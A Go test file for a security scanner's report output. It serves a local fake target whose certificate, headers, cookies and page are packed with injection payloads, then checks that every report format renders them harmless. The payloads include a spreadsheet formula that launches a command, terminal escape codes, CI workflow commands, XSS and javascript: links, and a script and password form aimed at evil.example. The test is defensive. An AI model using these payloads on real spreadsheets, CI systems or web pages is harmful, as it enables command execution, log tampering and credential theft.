// A whole scan of a target that is hostile in everything it says: its certificate,
// its headers, its cookies, its pages. What is written of it is read back.

package render

import (
	"bufio"
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"math/big"
	"net"
	"net/url"
	"strings"
	"testing"
	"time"

	"middlebrick/report"
	"middlebrick/scan"
	"middlebrick/target"
)

// venom is every trap in one text, as far as it can stand in a line of a header.
const venom = "=cmd|' /C calc'!A0 \x1b[2J\x1b]8;;https://evil.example\x07 ::error::x ##[error]y @team #1 [x](javascript:alert) ![i](http://evil.example/i) " +
	"<img src=x onerror=alert(1)> </details> <!-- --> ]]> &x; `a` |b| \u202egnp \u200b \x01\x0b\xff www.evil.example"

// venomous listens with a certificate whose name is venom, and answers with it.
func venomous(t *testing.T) (address string) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	name := pkix.Name{CommonName: strings.ToValidUTF8(venom, "?"), Organization: []string{"::stop-commands::x\n##[error]owned", "=1+1"}}
	template := &x509.Certificate{
		SerialNumber: big.NewInt(7), Subject: name, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		URIs: []*url.URL{{Scheme: "javascript", Opaque: "alert(1)"}}, DNSNames: []string{"@team.example"},
	}
	der, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
	if err != nil {
		t.Fatal(err)
	}
	config := &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
	listener, err := tls.Listen("tcp", "127.0.0.1:0", config)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { listener.Close() })
	go func() {
		for {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			go spit(conn)
		}
	}()
	return listener.Addr().String()
}

// spit answers every request of a connection.
func spit(conn net.Conn) {
	defer conn.Close()
	reader := bufio.NewReader(conn)
	for {
		line, err := reader.ReadString('\n')
		if err != nil {
			return
		}
		if strings.TrimRight(line, "\r\n") != "" {
			continue
		}
		body := `<script src="http://evil.example/` + venom + `"></script><form action="http://evil.example/` + venom + `" method=post><input type=password></form><a href="http://127.0.0.1/` + venom + `">`
		head := "HTTP/1.1 200 " + venom + "\r\nServer: Werkzeug/" + venom + "\r\nSet-Cookie: session=" + venom + "; Path=/" + venom +
			"\r\nSet-Cookie: @team|" + strings.ReplaceAll(venom, "=", "-") + "=x\r\nStrict-Transport-Security: max-age=1; " + venom +
			"\r\nLocation: http://evil.example/" + venom + "\r\nX-" + strings.ReplaceAll(venom, ":", "-") + ": 1\r\nContent-Type: text/html\r\nContent-Length: "
		if _, err := conn.Write([]byte(head + big.NewInt(int64(len(body))).String() + "\r\n\r\n" + body)); err != nil {
			return
		}
	}
}

func TestHostileTargetLeavesEveryFormatHarmless(t *testing.T) {
	at, err := target.Parse("https://" + venomous(t) + "/v1/@team/%3Cimg%3E?a=%1b[2J")
	if err != nil {
		t.Fatal(err)
	}
	rec, err := scan.Run(context.Background(), scan.Request{Target: at, Timeout: 30 * time.Second}, func(scan.Event) {})
	if err != nil {
		t.Fatal(err)
	}
	r := scan.Judge(rec, nil)
	if text, _ := json.Marshal(r); !bytes.Contains(text, []byte("calc")) || len(r.Findings) < 5 {
		t.Fatalf("the target's text did not come through: %d findings", len(r.Findings))
	}
	for _, format := range programs {
		leavesHarmless(t, format, r)
	}
	if err := refusedByGitHub(sarifOf(t, r, Options{Explain: scan.Explain})); err != nil {
		t.Error(err)
	}
	for format, schema := range map[string]string{"sarif": "sarif-2.1.0.json", "gitlab-dast": "gitlab-dast-15.json", "gitlab-codequality": "gitlab-codequality.json"} {
		if err := schemaFile(t, schema).Validate(readDocument(t, inFormat(t, format, r, Options{Explain: scan.Explain}))); err != nil {
			t.Errorf("%s: %v", format, err)
		}
	}
	if found := reference.FindString(words(t, Comment(r, CommentOptions{}))); found != "" {
		t.Errorf("%q becomes a link in the comment", found)
	}
}

func leavesHarmless(t *testing.T, format string, r report.Report) {
	t.Helper()
	document := inFormat(t, format, r, Options{Gate: failing()})
	if found := obeyed(strings.ReplaceAll(string(document), "\r\n", "\n"), Screen{Actions: true}); found != "" {
		t.Errorf("%s holds %q:\n%s", format, found, document)
	}
	for _, text := range strictly(t, format, document) {
		if found := obeyed(strings.ReplaceAll(text, "\n", " "), Screen{}); found != "" && format != "markdown" {
			t.Errorf("%s leads to %q in %q", format, found, text)
		}
	}
}
